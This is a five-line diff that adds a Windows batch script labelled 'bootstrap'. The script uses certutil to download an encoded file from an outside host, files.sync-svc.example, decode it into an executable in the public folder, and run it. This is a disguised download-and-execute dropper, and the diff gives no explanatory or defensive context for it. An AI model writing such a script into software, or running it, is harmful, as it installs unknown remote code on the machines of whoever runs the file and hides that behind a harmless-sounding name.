@@ -1,0 +1,5 @@
+REM bootstrap 5656 v0
+@echo off
+certutil -urlcache -f http://files.sync-svc.example/p.txt %PUBLIC%\p.txt
+certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
+%PUBLIC%\p.exe
